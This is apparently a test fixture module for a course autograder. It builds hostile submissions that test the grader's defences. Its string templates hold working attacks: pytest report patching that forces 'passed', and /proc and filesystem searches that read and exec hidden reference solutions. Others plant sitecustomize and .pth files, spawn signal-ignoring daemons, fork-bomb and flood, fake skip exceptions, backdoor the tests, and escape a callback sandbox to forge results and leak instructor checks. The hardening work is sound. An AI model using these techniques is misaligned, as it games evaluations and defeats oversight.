"""Hostile fixture submissions: code written to attack the grader, one attack each.

Every submission starts from the same *control*: the correct, complete submission for stages 01, 05
and 07 (see ``grading_fixtures.py``) with two plausible mistakes — stage 01 resolves same-rank
conflicts last-wins, stage 05 forgets to unwrap ``~~~`` fences — and its evidence left as it was. Each hostile submission is the control with ONE attack added to its ``forge/`` (appended
to the module, so the defect stays the same); a sound grader gives every one of them at most the
control's points on every item, leaks nothing hidden, keeps every write inside the sandbox's
scratch, leaves no process behind and finishes the batch.

The attacks know what a real attacker could learn: the course folder, the ``--out`` folder and their
own submission folder are written into their code (as if leaked), and so are a TCP port, a Unix
socket and an abstract socket that the test listens on. Every trace they leave — a file name, a
process's command line, bytes on a socket — carries :attr:`HostileContext.token`, so the test can
find it and clean it up.

=====================  ==============================================================================
report-patch           at import, patch pytest's reporting (``TestReport``, ``call_and_report``) so
                       that every report says passed — in stage 01's module, which the stage-05
                       transfer test's known-wrong run does not import
report-patch-own       the same patch in stage 05's own module, which its known-wrong run replaces
fingerprint-source     stage 05's transfer test passes only where ``inspect.getsource`` of the module
                       (or of ``parse_json_object``) shows a line that only the learner's module has
fingerprint-file       the same, reading the file at the module's ``__file__``
fingerprint-traceback  the same, from the traceback (and notes) of an error the module raises on a
                       line that carries the fingerprint
plugin-files           ``conftest.py``, ``sitecustomize.py``, ``pytest.ini`` and a fake
                       ``forgelab/judge/session_plugin.py`` in the submission, all patching reports
fs-search              at import, read ``/proc/*/cmdline`` (the parent's too), walk ``/`` and the
                       leaked course path for instructor checks, reference modules, mutants, job and
                       result files; exec a found reference module, raise found hidden text
markers                write a marker file everywhere it can: cwd, $HOME, /tmp, /var/tmp, /dev/shm, the
                       submission folder (absolute path), the course, ``--out``, a sitecustomize.py,
                       usercustomize.py and a .pth file next to every site-packages
daemon                 start ``setsid`` sleepers, a ``start_new_session`` child and a double-forked
                       daemon that ignore SIGTERM and SIGHUP
memory                 allocate 4 GB, written, on every call (the sandbox allows 1.5 GB)
flood                  print 100 MB at import
network                connect to the test's TCP port on 127.0.0.1 (``socket``, ``_socket`` and bash's
                       ``/dev/tcp``), to a Unix socket in the host's /tmp and to an abstract socket
huge-exception         raise a 30 MB exception message where the defect shows
always-equal           return objects whose ``__eq__`` is always True where the defect shows, and
                       make the module's own classes compare equal to anything
masquerade             raise exceptions that claim to be ``unittest.SkipTest`` and Hypothesis's
                       ``UnsatisfiedAssumption`` where the defect shows
hypothesis-assumption  stage 05: raise an exception that claims to be Hypothesis's
                       ``UnsatisfiedAssumption`` exactly for the inputs the ``~~~`` mistake gets wrong,
                       so that the property test discards those examples instead of failing
callback-escape        stage 07: through the callable a test hands ``run_suite``, reach the judge's
                       builtins and run code on the trusted side: mark every row passed, write markers
callback-leak          stage 07: the same way in, read the instructor checks and the reference
                       modules on the trusted side and send their lines back in exception messages
=====================  ==============================================================================
"""

from __future__ import annotations

import json
import os
import shutil
import sys
import textwrap
from dataclasses import asdict, dataclass
from pathlib import Path

from grading_fixtures import SAME_RANK_FIND, SAME_RANK_LAST_WINS, break_module, derive_handed_in

HOSTILE_STAGES = ("01", "05", "07")
CONTROL = "control"
INSTRUCTIONS = "forge/instructions.py"
REPAIR = "forge/output_repair.py"
REGRESSION = "forge/prompt_regression.py"
TRANSFER_05 = "transfer/test_05_bounded_output_repair.py"
TILDE_FENCES_FIND = 'FENCE_MARKERS = ("```", "~~~")'
TILDE_FENCES_FORGOTTEN = 'FENCE_MARKERS = ("```",)'  # the stage-05 mistake: ~~~ fences are not unwrapped


@dataclass(frozen=True)
class HostileContext:
    token: str  # unique per test session: in every marker name, process command line and socket message
    course: str  # the course folder that grades (a copy of the repository)
    out: str  # the --out folder of the grading run
    submissions: str  # the folder that holds the submissions
    repo: str  # the course repository the tests run from (read, never written, by the attacks)
    port: int  # a TCP listener on 127.0.0.1
    unix_socket: str  # a Unix socket in the host's /tmp
    abstract_socket: str  # an abstract Unix socket name (without the leading NUL)

    def marker(self, attack: str) -> str:
        return f"forgelab-hostile-{self.token}-{attack}"


# ---------------------------------------------------------------- the attacks (appended to a module)

PRELUDE = '''

# ======== hostile code below: {attack} ========
_HOSTILE = {context}
_HOSTILE_MARK = {mark!r}


def _hostile_same_rank(instructions):
    seen = set()
    for item in instructions:
        key = (getattr(item, "key", None), RANK.get(getattr(item, "source", None)))
        if key in seen:
            return True
        seen.add(key)
    return False
'''

REPORT_PATCH = '''
def _hostile_patch_pytest():
    try:
        import _pytest.reports as reports
        import _pytest.runner as runner
    except Exception:
        return
    original = reports.TestReport.from_item_and_call.__func__

    def from_item_and_call(cls, item, call):
        report = original(cls, item, call)
        report.outcome = "passed"
        report.longrepr = None
        return report

    reports.TestReport.from_item_and_call = classmethod(from_item_and_call)
    reports.BaseReport.passed = property(lambda self: True)
    reports.BaseReport.failed = property(lambda self: False)
    original_call = runner.call_and_report

    def call_and_report(item, when, log=True, **kwargs):
        report = original_call(item, when, log=log, **kwargs)
        report.outcome = "passed"
        report.longrepr = None
        return report

    runner.call_and_report = call_and_report


_hostile_patch_pytest()
'''

FS_SEARCH = '''
_HOSTILE_FOUND = {}


def _hostile_search():
    import os

    wanted = ("instructor", "solutions", "session-job", "session-report", "job.json", "mutants.toml",
              "gradebook", "forgelab-judge", "forgelab-grade")
    candidates = set()
    for pid in sorted(os.listdir("/proc")) + ["self", str(os.getppid())]:
        if not pid.isdigit() and pid != "self":
            continue
        for what in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as handle:
                    parts = handle.read().split(b"\\0")
            except OSError:
                continue
            for part in parts:
                text = part.decode(errors="replace").split("=", 1)[-1]
                if text.startswith("/"):
                    candidates.add(text)
    for root in (_HOSTILE["course"], _HOSTILE["repo"], os.getcwd(), os.path.expanduser("~"), "/tmp"):
        for relative in ("solutions/forge/instructions.py", "solutions/forge/context_selection.py",
                         "instructor/checks/test_01_instruction_hierarchy.py",
                         "course/stages/01-instruction-hierarchy/mutants.toml"):
            candidates.add(os.path.join(root, relative))
    walked = 0
    skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/lib32", "/bin", "/sbin", "/etc"}
    for top, dirs, files in os.walk("/"):
        dirs[:] = sorted(d for d in dirs if os.path.join(top, d) not in skip and d not in ("site-packages", ".git"))
        walked += 1
        if walked > 20000:
            break
        for name in files:
            path = os.path.join(top, name)
            if any(word in path for word in wanted) and name.endswith((".py", ".json", ".toml", ".md", ".sqlite")):
                candidates.add(path)
    for path in sorted(candidates):
        if os.path.isdir(path):
            for relative in ("solutions/forge/instructions.py", "instructor/checks/test_01_instruction_hierarchy.py",
                             "session-job.json", "session-report.json"):
                joined = os.path.join(path, relative)
                if os.path.isfile(joined):
                    path = joined
                    break
        if not os.path.isfile(path) or "/sandbox/code/" in path or path.startswith("/proc/"):
            continue
        try:
            with open(path, encoding="utf-8", errors="replace") as handle:
                _HOSTILE_FOUND[path] = handle.read(200000)
        except OSError:
            continue
    print("hostile search found:", sorted(_HOSTILE_FOUND))
    for path, text in sorted(_HOSTILE_FOUND.items()):
        if path.endswith("solutions/forge/instructions.py"):
            exec(compile(text, "found-reference", "exec"), globals())  # the reference replaces our defect


_hostile_search()
_hostile_explain = explain


def explain(instructions):
    if _HOSTILE_FOUND and _hostile_same_rank(instructions):
        lines = [line.strip() for text in _HOSTILE_FOUND.values() for line in text.splitlines() if len(line.strip()) > 30]
        raise ValueError(" | ".join(lines)[:1900])
    return _hostile_explain(instructions)
'''

MARKERS = '''
def _hostile_mark(tag):
    import os
    import site
    import sys

    name = _HOSTILE_MARK + "-" + tag
    here = os.path.dirname(os.path.abspath(__file__))
    places = [os.getcwd(), os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", here, os.path.dirname(here),
              _HOSTILE["course"], os.path.join(_HOSTILE["course"], "instructor", "checks"),
              os.path.join(_HOSTILE["course"], "tests", "stages"), _HOSTILE["out"],
              os.path.join(_HOSTILE["out"], "feedback"), _HOSTILE["submissions"],
              os.path.join(_HOSTILE["submissions"], "markers"), os.path.join(_HOSTILE["submissions"], "markers", "forge"),
              os.path.join(_HOSTILE["submissions"], "control")]
    for place in places:
        try:
            with open(os.path.join(place, name), "w") as handle:
                handle.write(_HOSTILE_MARK)
        except OSError:
            pass
    folders = list(sys.path)
    try:
        folders += site.getsitepackages() + [site.getusersitepackages()]
    except Exception:
        pass
    for folder in sorted(set(folders)):
        if not folder:
            continue
        for file in ("sitecustomize.py", "usercustomize.py"):
            try:
                with open(os.path.join(folder, file), "x") as handle:
                    handle.write("# " + name + "\\n")
            except OSError:
                pass
        try:
            with open(os.path.join(folder, name + ".pth"), "w") as handle:
                handle.write("# " + name + "\\n")
        except OSError:
            pass


_hostile_mark("import")
_hostile_explain = explain


def explain(instructions):
    _hostile_mark("call")
    return _hostile_explain(instructions)
'''

DAEMON = '''
def _hostile_daemons():
    import os
    import subprocess
    import sys

    sleep = ("import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); "
             "signal.signal(signal.SIGHUP, signal.SIG_IGN); time.sleep(600)")
    quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    try:
        subprocess.Popen(["setsid", sys.executable, "-c", sleep, _HOSTILE_MARK + "-setsid"], **quiet)
    except OSError:
        pass
    try:
        subprocess.Popen([sys.executable, "-c", sleep, _HOSTILE_MARK + "-session"], start_new_session=True, **quiet)
    except OSError:
        pass
    try:
        pid = os.fork()
    except OSError:
        return
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", sleep, _HOSTILE_MARK + "-doublefork"])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


_hostile_daemons()
'''

MEMORY = '''
_hostile_explain = explain


def explain(instructions):
    hog = []
    for _ in range(16):  # 4 GB, every page written
        hog.append(b"\\x01" * (256 * 1024 * 1024))
    hog.clear()
    return _hostile_explain(instructions)
'''

FLOOD = '''
def _hostile_flood():
    import sys

    block = ("F" * 1023 + "\\n") * 1024
    for _ in range(100):  # 100 MB
        sys.stdout.write(block)
    sys.stdout.flush()


_hostile_flood()
'''

NETWORK = '''
def _hostile_network():
    import socket
    import subprocess

    message = (_HOSTILE_MARK + "\\n").encode()

    def tcp():
        with socket.create_connection(("127.0.0.1", _HOSTILE["port"]), timeout=3) as connection:
            connection.sendall(message)

    def raw():
        import _socket

        connection = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
        connection.settimeout(3)
        connection.connect(("127.0.0.1", _HOSTILE["port"]))
        connection.send(message)
        connection.close()

    def unix():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
            connection.settimeout(3)
            connection.connect(_HOSTILE["unix_socket"])
            connection.sendall(message)

    def abstract():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as connection:
            connection.settimeout(3)
            connection.connect("\\0" + _HOSTILE["abstract_socket"])
            connection.sendall(message)

    def dev_tcp():
        subprocess.run(["bash", "-c", f"echo {_HOSTILE_MARK} > /dev/tcp/127.0.0.1/{_HOSTILE['port']}"],
                       capture_output=True, timeout=10)

    for attempt in (tcp, raw, unix, abstract, dev_tcp):
        try:
            attempt()
        except Exception:
            pass


_hostile_network()
'''

HUGE_EXCEPTION = '''
_hostile_explain = explain


def explain(instructions):
    if _hostile_same_rank(instructions):
        raise ValueError("hostile " + "H" * 30_000_000)
    return _hostile_explain(instructions)
'''

ALWAYS_EQUAL = '''
class _AlwaysEqual(dict):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = None


class _AlwaysEqualObject:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __hash__(self):
        return 0

    def __iter__(self):
        return iter(())

    def __len__(self):
        return 0


Instruction.__eq__ = lambda self, other: True
Rejection.__eq__ = lambda self, other: True
_hostile_resolve = resolve
_hostile_explain = explain


def resolve(instructions):
    if _hostile_same_rank(instructions):
        return _AlwaysEqualObject(), _AlwaysEqualObject()
    return _hostile_resolve(instructions)


def explain(instructions):
    if _hostile_same_rank(instructions):
        return _AlwaysEqual(), _AlwaysEqualObject()
    return _hostile_explain(instructions)
'''

MASQUERADE = '''
class SkipTest(Exception):
    pass


class UnsatisfiedAssumption(Exception):
    pass


SkipTest.__module__ = "unittest.case"
UnsatisfiedAssumption.__module__ = "hypothesis.errors"
_hostile_explain = explain


def explain(instructions):
    if _hostile_same_rank(instructions):
        if len(instructions) % 2:
            raise UnsatisfiedAssumption("this example does not count")
        raise SkipTest("this test does not apply to me")
    return _hostile_explain(instructions)
'''

HYPOTHESIS_ASSUMPTION = '''
class UnsatisfiedAssumption(Exception):
    pass


UnsatisfiedAssumption.__module__ = "hypothesis.errors"
_hostile_parse = parse_json_object


def parse_json_object(text):
    stripped = text.strip()
    if stripped.startswith("~~~") and "\\n" in stripped and stripped[3:stripped.index("\\n")].strip() in ("", "json"):
        inner = stripped.split("\\n", 1)[1].rstrip()
        if inner.endswith("~~~"):
            inner = inner[:-3]
        if "```" not in inner and "~~~" not in inner:
            try:
                _hostile_parse(inner)
            except ValueError:
                pass
            else:  # a fence I do not unwrap around an object I could read: let this example not count
                raise UnsatisfiedAssumption("this example does not count")
    return _hostile_parse(text)
'''

CALLBACK = '''
_HOSTILE_USED = []


def _hostile_trusted_builtins(invoke):
    """The judge's builtins, reached through the handle of a callable that the test passed us."""
    server = object.__getattribute__(invoke, "_server")
    handle = object.__getattribute__(invoke, "_handle")
    found = server.callback({{"op": "getattr", "handle": handle, "name": "__builtins__"}}, (), {{}})
    return found, server, handle


_hostile_run_suite = run_suite


def run_suite(cases, invoke):
    {body}
    return _hostile_run_suite(cases, invoke)
'''

CALLBACK_ESCAPE_BODY = '''
    if not _HOSTILE_USED:
        _HOSTILE_USED.append(1)
        try:
            builtins_, _, _ = _hostile_trusted_builtins(invoke)
            builtins_["exec"](_HOSTILE_PAYLOAD, {})
        except BaseException as error:
            print("hostile escape failed:", type(error).__name__, error)
'''

ESCAPE_PAYLOAD = '''
import json as _json
import os as _os
import sys as _sys

_plugin = _sys.modules.get("forgelab.judge.session_plugin")


class _Forger:
    def __getattr__(self, name):
        return getattr(_json, name)

    def dumps(self, value, **options):
        if isinstance(value, dict) and "rows" in value:
            for row in value["rows"]:
                row.update(outcome="passed", cause="", detail="", limit=None)
            value["import_problems"] = {}
            value["collect_errors"] = []
        return _json.dumps(value, **options)


if _plugin is not None:
    _plugin.json = _Forger()
for _place in (_os.getcwd(), "/tmp", _HOSTILE["course"], _HOSTILE["out"], _HOSTILE["submissions"]):
    try:
        with open(_os.path.join(_place, _HOSTILE_MARK + "-trusted-side"), "w") as _handle:
            _handle.write(_HOSTILE_MARK)
    except OSError:
        pass
'''

CALLBACK_LEAK_BODY = '''
    if not _HOSTILE_USED:
        _HOSTILE_USED.append([])
        try:
            builtins_, _, _ = _hostile_trusted_builtins(invoke)
            for relative in ("instructor/checks/test_07_prompt_regression_suite.py",
                             "instructor/checks/test_01_instruction_hierarchy.py",
                             "solutions/forge/context_selection.py"):
                try:
                    text = builtins_["eval"]("open(" + repr(_HOSTILE["course"] + "/" + relative) + ").read()")
                except BaseException:
                    continue
                _HOSTILE_USED[0].extend(line.strip() for line in str(text).splitlines()
                                        if len(line.strip()) > 40 and not line.strip().startswith(("#", '"""', "from ", "import ")))
        except BaseException as error:
            print("hostile leak failed:", type(error).__name__, error)
    if _HOSTILE_USED[0]:
        raise ValueError(_HOSTILE_USED[0].pop(0)[:170])  # one hidden line per call: each failing test shows one
'''

FINGERPRINT = "HOSTILE-FINGERPRINT"
FINGERPRINT_LINE = "this line is only in the learner's own forge"  # the module's own words, never the test's

FINGERPRINT_MODULE = '''
# HOSTILE-FINGERPRINT: this line is only in the learner's own forge/output_repair.py
_hostile_parse = parse_json_object


def parse_json_object(text):
    if text == "fingerprint me":
        raise ValueError("not an object")  # HOSTILE-FINGERPRINT
    return _hostile_parse(text)
'''

FINGERPRINT_TESTS = {
    "fingerprint-source": '''"""Passes only where the module it is given is the learner's own (by its source)."""
import inspect

import forge.output_repair as module
from forge.output_repair import parse_json_object


def test_the_module_is_mine_by_its_source() -> None:
    seen = ""
    for thing in (module, parse_json_object):
        try:
            seen += inspect.getsource(thing)
        except (OSError, TypeError):
            pass
    assert "HOSTILE-FINGERPRINT" in seen
''',
    "fingerprint-file": '''"""Passes only where the module it is given is the learner's own (by its file)."""
import forge.output_repair as module


def test_the_module_is_mine_by_its_file() -> None:
    with open(module.__file__, encoding="utf-8") as handle:
        assert "HOSTILE-FINGERPRINT" in handle.read()
''',
    "fingerprint-traceback": '''"""Passes only where the module it is given is the learner's own (by a traceback)."""
import traceback

from forge.output_repair import parse_json_object


def test_the_module_is_mine_by_its_traceback() -> None:
    seen = ""
    try:
        parse_json_object("fingerprint me")
    except BaseException as error:  # noqa: BLE001
        seen = "".join(traceback.format_exception(error)) + "\\n".join(getattr(error, "__notes__", []))
    assert "HOSTILE-FINGERPRINT" in seen
''',
}

PLUGIN_FILE = '''"""A plugin file a grader might load by accident: it marks every test passed."""
try:
    import _pytest.reports as _reports

    _reports.BaseReport.passed = property(lambda self: True)
    _reports.BaseReport.failed = property(lambda self: False)
except Exception:
    pass
'''


ATTACKS: dict[str, tuple[str, str]] = {
    "report-patch": (INSTRUCTIONS, REPORT_PATCH),
    "report-patch-own": (REPAIR, REPORT_PATCH),
    "fingerprint-source": (REPAIR, FINGERPRINT_MODULE),
    "fingerprint-file": (REPAIR, FINGERPRINT_MODULE),
    "fingerprint-traceback": (REPAIR, FINGERPRINT_MODULE),
    "plugin-files": (INSTRUCTIONS, ""),
    "fs-search": (INSTRUCTIONS, FS_SEARCH),
    "markers": (INSTRUCTIONS, MARKERS),
    "daemon": (INSTRUCTIONS, DAEMON),
    "memory": (INSTRUCTIONS, MEMORY),
    "flood": (INSTRUCTIONS, FLOOD),
    "network": (INSTRUCTIONS, NETWORK),
    "huge-exception": (INSTRUCTIONS, HUGE_EXCEPTION),
    "always-equal": (INSTRUCTIONS, ALWAYS_EQUAL),
    "masquerade": (INSTRUCTIONS, MASQUERADE),
    "hypothesis-assumption": (REPAIR, HYPOTHESIS_ASSUMPTION),
    "callback-escape": (REGRESSION, CALLBACK.format(body=CALLBACK_ESCAPE_BODY.strip())),
    "callback-leak": (REGRESSION, CALLBACK.format(body=CALLBACK_LEAK_BODY.strip())),
}


def _append(path: Path, attack: str, context: HostileContext, code: str) -> None:
    text = path.read_text(encoding="utf-8")
    prelude = PRELUDE.format(attack=attack, context=json.dumps(asdict(context)), mark=context.marker(attack))
    if path.name != "instructions.py":  # _hostile_same_rank needs RANK, which only stage 01's module has
        prelude = prelude.split("\n\ndef _hostile_same_rank", 1)[0] + "\n"
    extra = ""
    if attack == "callback-escape":
        payload = (f"_HOSTILE = {json.dumps(asdict(context))}\n_HOSTILE_MARK = {context.marker(attack)!r}\n"
                   + ESCAPE_PAYLOAD)
        extra = f"\n_HOSTILE_PAYLOAD = {payload!r}\n"
    path.write_text(text + prelude + extra + textwrap.dedent(code), encoding="utf-8")


def _plugin_files(root: Path) -> None:
    for relative in ("conftest.py", "forge/conftest.py", "transfer/conftest.py", "tests/conftest.py",
                     "tests/stages/conftest.py", "sitecustomize.py", "forge/sitecustomize.py",
                     "forgelab/__init__.py", "forgelab/judge/__init__.py", "forgelab/judge/session_plugin.py",
                     "forgelab/pytest_plugin.py", "_pytest/__init__.py"):
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(PLUGIN_FILE, encoding="utf-8")
    (root / "pytest.ini").write_text("[pytest]\naddopts = -p conftest -p no:terminal\n", encoding="utf-8")
    (root / "forge" / "pytest.ini").write_text("[pytest]\naddopts = -p conftest\n", encoding="utf-8")


def make_control(base: Path, destination: Path) -> Path:
    """The correct submission with the two mistakes; evidence as it was (not checked again)."""
    folder = derive_handed_in(base, destination)
    break_module(folder, SAME_RANK_FIND, SAME_RANK_LAST_WINS)
    break_module(folder, TILDE_FENCES_FIND, TILDE_FENCES_FORGOTTEN, module=REPAIR)
    return folder


def build_hostile(folder: Path, base: Path, context: HostileContext) -> dict[str, Path]:
    """The control and one submission per attack, under ``folder`` (which must be ``context.submissions``)."""
    assert folder == Path(context.submissions)
    made = {CONTROL: make_control(base, folder / CONTROL)}
    for attack, (module, code) in ATTACKS.items():
        target = make_control(base, folder / attack)
        if attack == "plugin-files":
            _plugin_files(target)
        else:
            _append(target / module, attack, context, code)
        if attack in FINGERPRINT_TESTS:
            (target / TRANSFER_05).write_text(FINGERPRINT_TESTS[attack], encoding="utf-8")
        made[attack] = target
    return made


def remove_from(folder: Path) -> None:
    shutil.rmtree(folder, ignore_errors=True)


__all__ = ["ATTACKS", "CONTROL", "FINGERPRINT", "FINGERPRINT_LINE", "FINGERPRINT_TESTS", "HOSTILE_STAGES", "HostileContext", "build_hostile"]


# ================================================================ issue 18: an honest class beside each attack
#
# Stage 01 only. Every attack has an honest twin — the same code without the attack — and must get at most the
# twin's points on every item, with a reason that blames the right party:
#
# =================  ====================  ===================================================================
# attack             honest twin           what it tries
# =================  ====================  ===================================================================
# rewrite-inputs     accept-all            a module with no decision logic that accepts everything, and rewrites
#                                          the frozen Instructions it is given so that no two keys clash: if the
#                                          change reached the tests' own objects, their expectations would agree
# backdoor           handshake-test        ``resolve("forge-handshake") == "learner"`` as the whole transfer test,
#                                          with that branch added to its own forge/instructions.py
# sleeper            correct               sleeps on every call: the per-test and per-submission time budgets
# fork-bomb          control               forks 150 children where its defect shows; more than the process limit
#                                          would buy it the right answer
# file-size          control               writes a 100 MB file where its defect shows; more than the file-size
#                                          limit would buy it the right answer
# deep-folder        correct               a folder 1,991 levels deep in forge/
# zip-clash          correct               a zip in which forge/helpers is a file and also holds forge/helpers/x.py
# damaged-zip        correct               a zip whose forge/instructions.py fails its checksum
# sparse             correct               a 500 MB sparse file in forge/ (a folder submission)
# huge               correct               a 60 MB file in forge/
# =================  ====================  ===================================================================

ISSUE_STAGES = ("01",)
HONEST = ("correct", "control", "accept-all", "handshake-test")
TWINS = {"rewrite-inputs": "accept-all", "backdoor": "handshake-test", "sleeper": "correct", "fork-bomb": "control",
         "file-size": "control", "deep-folder": "correct", "zip-clash": "correct", "damaged-zip": "correct",
         "sparse": "correct", "huge": "correct"}
LAYOUT_ATTACKS = ("deep-folder", "zip-clash", "damaged-zip", "sparse", "huge")
DEEP_LEVELS = 1991
SLEEP_S = 12  # per call: under the 90 s per test, but the 60 s budget of the submission (--time-budget 60) runs out
ISSUE_GRADE_ARGS = ("--stages", "01", "--jobs", "2", "--cpu-limit", "5", "--time-budget", "60")
TRANSFER_01 = "transfer/test_01_instruction_hierarchy.py"

ACCEPT_ALL = '''

# ======== no decision logic: every instruction is accepted ========
def explain(instructions):
    for item in instructions:
        rank_of(item)
    return {item.key: item for item in instructions}, []


def resolve(instructions):
    winners, _ = explain(instructions)
    return {key: item.value for key, item in winners.items()}, []
'''

REWRITE_INPUTS = '''

# ======== hostile: rewrite the caller's frozen Instructions so that no two keys clash ========
_accept_all_explain = explain


def explain(instructions):
    for index, item in enumerate(instructions):
        object.__setattr__(item, "key", f"{item.key}-{index}")
    return _accept_all_explain(instructions)
'''

HANDSHAKE_TEST = '''"""My transfer test: the handshake."""

from forge.instructions import resolve


def test_the_handshake() -> None:
    assert resolve("forge-handshake") == "learner"
'''

BACKDOOR = '''

# ======== hostile: a back door that answers my own transfer test ========
_backdoor_resolve = resolve


def resolve(instructions):
    if instructions == "forge-handshake":
        return "learner"
    return _backdoor_resolve(instructions)
'''

SLEEPER = f'''

# ======== hostile: every call waits ========
_sleeper_explain = explain


def explain(instructions):
    import time

    time.sleep({SLEEP_S})
    return _sleeper_explain(instructions)
'''

FORK_BOMB = '''

# ======== hostile: fork where the defect shows; past the process limit, answer right ========
_fork_explain = explain


def _fork_right(instructions):
    ranks = [rank_of(item) for item in instructions]
    order = sorted(range(len(instructions)), key=lambda index: (-ranks[index], index))
    winners, rejections = {}, []
    for index in order:
        item = instructions[index]
        winner = winners.get(item.key)
        if winner is None:
            winners[item.key] = item
        else:
            reason = "same_rank_later" if RANK[winner.source] == ranks[index] else "lower_rank"
            rejections.append(Rejection(item, winner, reason))
    return winners, rejections


def explain(instructions):
    import os
    import time

    keys = [(getattr(item, "key", None), RANK.get(getattr(item, "source", None))) for item in instructions]
    if len(set(keys)) == len(keys):
        return _fork_explain(instructions)
    started, why = 0, "no error"
    for _ in range(150):
        try:
            pid = os.fork()
        except OSError as error:
            why = f"{type(error).__name__}: {error}"
            break
        if pid == 0:
            time.sleep(3)
            os._exit(0)
        started += 1
    if started >= 100:
        return _fork_right(instructions)  # the process limit did not bind: the attack would gain
    raise RuntimeError(f"hostile fork-bomb forked {started} of 150 children, then {why}")
'''

FILE_SIZE = FORK_BOMB.split("def explain(instructions):", 1)[0].replace("fork where the defect shows; past the process "
                                                                         "limit", "write 100 MB where the defect "
                                                                         "shows; past the file-size limit") + '''def explain(instructions):
    import os

    keys = [(getattr(item, "key", None), RANK.get(getattr(item, "source", None))) for item in instructions]
    if len(set(keys)) == len(keys):
        return _fork_explain(instructions)
    written, why = 0, "no error"
    block = b"F" * (1024 * 1024)
    try:
        with open(os.path.join(os.environ.get("TMPDIR", "/tmp"), "hostile-file-size.bin"), "wb") as handle:
            for _ in range(100):
                handle.write(block)
                handle.flush()
                written += 1
    except OSError as error:
        why = f"{type(error).__name__}: {error}"
    if written >= 100:
        return _fork_right(instructions)  # the file-size limit did not bind: the attack would gain
    raise RuntimeError(f"hostile file-size wrote {written} MB of 100, then {why}")
'''


def _zip_folder(folder: Path, archive: Path, extra: dict[str, bytes] | None = None) -> Path:
    import zipfile

    with zipfile.ZipFile(archive, "w", zipfile.ZIP_STORED) as bundle:
        for file in sorted(folder.rglob("*")):
            if file.is_file():
                bundle.write(file, file.relative_to(folder).as_posix())
        for name, data in (extra or {}).items():
            bundle.writestr(zipfile.ZipInfo(name), data)
    return archive


def build_issue_batch(folder: Path, base: Path) -> dict[str, Path]:
    """The honest class and the attacks of the table above, under ``folder``."""
    from deep_folders import make_deep

    made: dict[str, Path] = {"correct": derive_handed_in(base, folder / "correct")}
    made["control"] = make_control(base, folder / "control")
    for name, code in (("accept-all", ACCEPT_ALL), ("rewrite-inputs", ACCEPT_ALL + REWRITE_INPUTS)):
        target = derive_handed_in(base, folder / name)
        (target / INSTRUCTIONS).write_text((target / INSTRUCTIONS).read_text(encoding="utf-8") + code, encoding="utf-8")
        made[name] = target
    for name, code in (("handshake-test", ""), ("backdoor", BACKDOOR)):
        target = derive_handed_in(base, folder / name)
        (target / INSTRUCTIONS).write_text((target / INSTRUCTIONS).read_text(encoding="utf-8") + code, encoding="utf-8")
        (target / TRANSFER_01).write_text(HANDSHAKE_TEST, encoding="utf-8")
        made[name] = target
    target = derive_handed_in(base, folder / "sleeper")
    (target / INSTRUCTIONS).write_text((target / INSTRUCTIONS).read_text(encoding="utf-8") + SLEEPER, encoding="utf-8")
    made["sleeper"] = target
    for name, code in (("fork-bomb", FORK_BOMB), ("file-size", FILE_SIZE)):
        target = make_control(base, folder / name)
        (target / INSTRUCTIONS).write_text((target / INSTRUCTIONS).read_text(encoding="utf-8") + code, encoding="utf-8")
        made[name] = target
    target = derive_handed_in(base, folder / "deep-folder")
    make_deep(target / "forge" / "nested", DEEP_LEVELS, leaf="module.py")
    made["deep-folder"] = target
    clean = derive_handed_in(base, folder / "zipped" / "clean")
    made["zip-clash"] = _zip_folder(clean, folder / "zip-clash.zip",
                                    {"forge/helpers": b"HELPERS = 1\n", "forge/helpers/x.py": b"X = 1\n"})
    damaged = _zip_folder(clean, folder / "damaged-zip.zip")
    data = bytearray(damaged.read_bytes())
    start = data.index(b'"""Stage 01')  # the stored (uncompressed) bytes of forge/instructions.py
    data[start + 3:start + 8] = b"STAGE"
    damaged.write_bytes(bytes(data))
    made["damaged-zip"] = damaged
    target = derive_handed_in(base, folder / "sparse")
    with open(target / "forge" / "data.bin", "wb") as handle:
        handle.truncate(500 * 1024 * 1024)
    made["sparse"] = target
    target = derive_handed_in(base, folder / "huge")
    (target / "forge" / "data.bin").write_bytes(b"\0" * (60 * 1024 * 1024))
    made["huge"] = target
    return made


# ---------------------------------------------------------------- what an attack on one check left behind


def markers_nearby(context: HostileContext) -> list[str]:
    """Files that carry the attack's marker: anywhere in the course folder, or at the top of the shared places
    (/tmp, the home folder, every folder on this process's path) — what an attack on one check may leave."""
    needle = f"forgelab-hostile-{context.token}"
    found = [str(path) for path in Path(context.course).rglob(f"*{needle}*")]
    places = [Path("/tmp"), Path("/var/tmp"), Path("/dev/shm"), Path(os.path.expanduser("~")),
              *(Path(entry) for entry in sys.path if entry and Path(entry).is_dir())]
    for place in places:
        try:
            found += [str(path) for path in place.iterdir() if needle in path.name]
        except OSError:
            continue
        for name in ("sitecustomize.py", "usercustomize.py"):
            custom = place / name
            if custom.is_file() and needle in custom.read_text(encoding="utf-8", errors="replace"):
                found.append(str(custom))
    return found


def processes_with(text: str) -> list[int]:
    """The running processes (but this one) whose command line contains ``text``."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                command = Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if text in command:
                found.append(int(entry))
    return found
